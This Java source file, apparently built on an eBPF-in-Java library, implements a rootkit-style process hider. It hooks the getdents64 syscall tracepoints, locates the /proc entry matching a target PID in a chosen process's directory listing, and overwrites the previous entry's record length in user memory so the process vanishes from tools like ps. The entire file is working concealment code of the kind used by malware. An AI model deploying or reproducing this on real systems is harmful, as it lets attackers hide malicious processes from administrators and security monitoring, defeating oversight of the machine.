import org.bpf4j.lang.Bpf;
import org.bpf4j.lang.BpfHashMap;
import org.bpf4j.lang.BpfString;
import org.bpf4j.lang.Config;
import org.bpf4j.lang.Field;
import org.bpf4j.lang.Helpers;
import org.bpf4j.lang.ProgramArray;
import org.bpf4j.lang.RingBuffer;
import org.bpf4j.lang.Struct;
import org.bpf4j.lang.Tracepoint;
import org.bpf4j.lang.TracepointArgs;

/// Hides the directory of one process from a process that lists `/proc`: walks the entries that
/// `getdents64` returns, a few for each run of a program that calls itself, and makes the entry
/// before the hidden one as long as both.
@Bpf(license = "Dual BSD/GPL")
public final class PidHide {

  static final int ENTRIES_PER_RUN = 64;

  enum Stage {
    SCAN,
    HIDE
  }

  static final int LENGTH = 16; // d_reclen of linux_dirent64
  static final int NAME = 19; // d_name

  /// The name of an entry, as far as one that is hidden can be long.
  @Struct
  static final class Name {
    final BpfString text = BpfString.ofSize(10);
  }

  /// How far a thread is with the entries.
  @Struct
  static final class Walk {
    long entries;
    int at;
    int before;
  }

  @Struct
  static final class Hidden {
    int process;
    boolean done;
    final BpfString name = BpfString.ofSize(16);
  }

  @TracepointArgs("trace_event_raw_sys_enter")
  interface Enter {
    @Field("args[1]")
    long entries();
  }

  @TracepointArgs("trace_event_raw_sys_exit")
  interface Exit {
    long ret();
  }

  static final BpfHashMap<Long, Walk> walks = BpfHashMap.create(8_192);
  static final ProgramArray<Stage> stages = ProgramArray.create();
  static final RingBuffer<Hidden> events = RingBuffer.ofBytes(1 << 16);

  /// The process that is shown less.
  @Config static int onlyProcess = -1;

  /// The number of the process that is hidden, as the name of its directory.
  static final BpfString hidden = BpfString.ofSize(10);

  @Tracepoint("syscalls/sys_enter_getdents64")
  static void onEnter(Enter call) {
    long id = Helpers.getCurrentPidTgid();
    if (onlyProcess != (int) (id >>> 32)) return;
    Walk walk = new Walk();
    walk.entries = call.entries();
    walks.put(id, walk);
  }

  @Tracepoint("syscalls/sys_exit_getdents64")
  static void onExit(Exit call) {
    stages.call(Stage.SCAN);
  }

  @Tracepoint(value = "syscalls/sys_exit_getdents64", stage = "SCAN")
  static void scan(Exit call) {
    long id = Helpers.getCurrentPidTgid();
    Walk walk = walks.get(id);
    if (walk == null) return;
    int end = (int) call.ret();

    Name name = new Name();
    short[] length = new short[1];
    for (int i = 0; i < ENTRIES_PER_RUN; i++) {
      if (walk.at >= end) {
        walks.remove(id);
        return;
      }
      Helpers.probeReadUserStr(name.text, walk.entries + walk.at + NAME);
      if (walk.at > 0 && name.text.contentEquals(hidden)) {
        stages.call(Stage.HIDE);
        return;
      }
      Helpers.probeReadUser(length, walk.entries + walk.at + LENGTH);
      if (length[0] <= 0) return;
      walk.before = walk.at;
      walk.at += length[0];
    }
    stages.call(Stage.SCAN);
  }

  @Tracepoint(value = "syscalls/sys_exit_getdents64", stage = "HIDE")
  static void hide() {
    long id = Helpers.getCurrentPidTgid();
    Walk walk = walks.get(id);
    if (walk == null) return;

    short[] length = new short[1];
    Helpers.probeReadUser(length, walk.entries + walk.at + LENGTH);
    int whole = walk.at - walk.before + length[0];
    length[0] = (short) whole;
    boolean done = Helpers.probeWriteUser(walk.entries + walk.before + LENGTH, length) == 0;
    walks.remove(id);

    Hidden event = events.reserve();
    if (event == null) return;
    event.process = (int) (id >>> 32);
    event.done = done;
    Helpers.getCurrentComm(event.name);
    events.submit(event);
  }
}
